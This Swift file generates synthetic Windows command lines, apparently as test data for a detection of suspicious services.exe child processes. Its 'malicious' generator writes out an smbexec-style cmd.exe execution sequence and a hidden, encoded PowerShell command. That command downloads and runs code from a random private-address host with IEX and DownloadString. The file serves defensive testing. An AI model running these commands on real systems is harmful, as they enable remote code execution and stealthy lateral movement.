import Foundation
import Model

/// Realistic command lines: quoted paths with spaces, backslashes, `&`, `<`, `>`, apostrophes,
/// non-ASCII file names, encoded PowerShell.
enum CommandLines {
    static let documents = [
        "Q3 Budget & Forecast (final).xlsx", "Meeting notes 2026-10-28.docx", "Bob's review – draft v2.docx",
        "Präsentation Übersicht.pptx", "Invoice #4471.pdf", "roadmap (internal).docx",
        "Travel expenses Oct.xlsx", "Contract_ACME & Partners.docx", "résumé – Jörg.docx", "capacity plan.xlsx",
    ]

    static let folders = ["Documents", "Desktop", "Downloads", "OneDrive - Corp\\Shared", "Documents\\Projects\\Alpha Beta"]

    /// `"C:\…\chrome.exe" --type=renderer …` or the browser's main command line.
    static func browser(_ program: Program, child: Bool, random: inout SeededRandom) -> String {
        let quoted = "\"" + program.image + "\""
        guard child else {
            return random.chance(0.5) ? quoted : quoted + " --profile-directory=Default"
        }
        let type = random.pick(["renderer", "gpu-process", "utility --utility-sub-type=network.mojom.NetworkService"])
        return quoted + " --type=\(type) --field-trial-handle=\(random.int(in: 1800...2400)),i,\(random.next() % 1_000_000_000_000),\(random.next() % 1_000_000_000_000),262144 --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=\(random.int(in: 2000...9000)) /prefetch:\(random.int(in: 1...8))"
    }

    /// An Office program opening a document in the user's profile.
    static func office(_ program: Program, user: String, random: inout SeededRandom) -> String {
        let path = "C:\\Users\\\(user)\\\(random.pick(folders))\\\(random.pick(documents))"
        return "\"\(program.image)\" /n \"\(path)\" /o \"\""
    }

    /// A notepad or VS Code invocation on a file with awkward characters.
    static func editor(_ program: Program, user: String, random: inout SeededRandom) -> String {
        let file = random.pick(["todo & ideas.txt", "notes (old).txt", "C# snippets.md", "it's fine.txt", "config.json"])
        return "\"\(program.image)\" \"C:\\Users\\\(user)\\\(random.pick(folders))\\\(file)\""
    }

    /// An interactive cmd.exe or PowerShell session, and what it runs.
    static func shell(_ program: Program, user: String, random: inout SeededRandom) -> String {
        if program === FleetCatalog.cmd {
            return random.pick([
                "\"C:\\Windows\\system32\\cmd.exe\" ",
                "C:\\Windows\\system32\\cmd.exe /c \"dir \"C:\\Program Files\\\" > \"%TEMP%\\listing.txt\"\"",
                "cmd.exe /c echo %USERNAME% && whoami /groups | findstr /i \"admin\"",
                "C:\\Windows\\system32\\cmd.exe /k cd /d \"C:\\Users\\\(user)\\Documents\\Projects\\Alpha Beta\"",
            ])
        }
        return random.pick([
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\Users\\\(user)\\Scripts\\Get-Report.ps1\" -Title 'Q4 <draft>' -Verbose",
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -Command \"Get-ChildItem -Path 'C:\\Program Files' | Where-Object { $_.Length -gt 1MB } | Out-File \\\"$env:TEMP\\big.txt\\\"\"",
            "powershell.exe -nologo -c \"Test-NetConnection srv-fs01.corp.example -Port 445\"",
        ])
    }

    /// A short command a shell runs: whoami, ipconfig, ping, net.
    static func utility(random: inout SeededRandom) -> (Program, String) {
        switch random.index(4) {
        case 0: return (FleetCatalog.whoami, "whoami /all")
        case 1: return (FleetCatalog.ipconfig, "ipconfig /all")
        case 2: return (FleetCatalog.ping, "ping -n 4 srv-dc01.corp.example")
        default: return (FleetCatalog.net, "net use Z: \"\\\\srv-fs01.corp.example\\Team Share\" /persistent:no")
        }
    }

    /// An svchost.exe service group command line, e.g. `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`.
    static func svchost(_ group: String) -> String {
        "C:\\Windows\\system32\\svchost.exe " + group
    }

    /// A services.exe child that the detection's allowlist accepts.
    static func allowlistedService(random: inout SeededRandom) -> (Program, String) {
        switch random.index(7) {
        case 0: return (FleetCatalog.svchost, svchost(random.pick(["-k netsvcs -p -s gpsvc", "-k LocalSystemNetworkRestricted -p -s TrkWks", "-k wsappx -p -s ClipSVC"])))
        case 1: return (FleetCatalog.trustedInstaller, "C:\\Windows\\servicing\\TrustedInstaller.exe")
        case 2: return (FleetCatalog.msiexec, "C:\\Windows\\system32\\msiexec.exe /V")
        case 3: return (FleetCatalog.psexesvc, "C:\\Windows\\PSEXESVC.EXE")
        case 4: return (FleetCatalog.healthService, "\"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\HealthService.exe\"")
        case 5: return (FleetCatalog.googleUpdate, "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc")
        default: return (FleetCatalog.sppsvc, "C:\\Windows\\system32\\sppsvc.exe")
        }
    }

    /// A services.exe child outside the allowlist that a legitimate service restart starts.
    static func benignUnlistedService(random: inout SeededRandom) -> (Program, String) {
        switch random.index(4) {
        case 0: return (FleetCatalog.spoolsv, "C:\\Windows\\System32\\spoolsv.exe")
        case 1: return (FleetCatalog.searchIndexer, "C:\\Windows\\system32\\SearchIndexer.exe /Embedding")
        case 2: return (FleetCatalog.msdtc, "C:\\Windows\\System32\\msdtc.exe")
        default: return (FleetCatalog.vds, "C:\\Windows\\System32\\vds.exe")
        }
    }

    /// What an attacker's remotely created service runs: never allowlisted.
    static func malicious(random: inout SeededRandom) -> (Program, String) {
        switch random.index(4) {
        case 0:
            let name = letters(2, random: &random) + String(random.int(in: 0...9)) + ".exe"
            let program = Program(image: "C:\\Windows\\Temp\\" + name)
            return (program, "C:\\Windows\\Temp\\" + name)
        case 1:
            let out = letters(6, random: &random)
            return (FleetCatalog.cmd, "C:\\Windows\\system32\\cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__\(out) 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat")
        case 2:
            return (FleetCatalog.powershell, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc " + encodedCommand(random: &random))
        default:
            let name = letters(8, random: &random, mixedCase: true) + ".exe"
            let program = Program(image: "C:\\Windows\\" + name)
            return (program, "C:\\Windows\\" + name)
        }
    }

    /// A base64 UTF-16LE PowerShell command, as `-enc` takes it.
    static func encodedCommand(random: inout SeededRandom) -> String {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://10.66.\(random.int(in: 1...254)).\(random.int(in: 1...254)):8080/\(letters(5, random: &random))')"
        var utf16 = Data()
        for unit in script.utf16 { utf16.append(UInt8(unit & 0xFF)); utf16.append(UInt8(unit >> 8)) }
        return utf16.base64EncodedString()
    }

    static func letters(_ count: Int, random: inout SeededRandom, mixedCase: Bool = false) -> String {
        let alphabet = Array(mixedCase ? "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ" : "abcdefghijklmnopqrstuvwxyz")
        return String((0..<count).map { _ in alphabet[random.index(alphabet.count)] })
    }
}
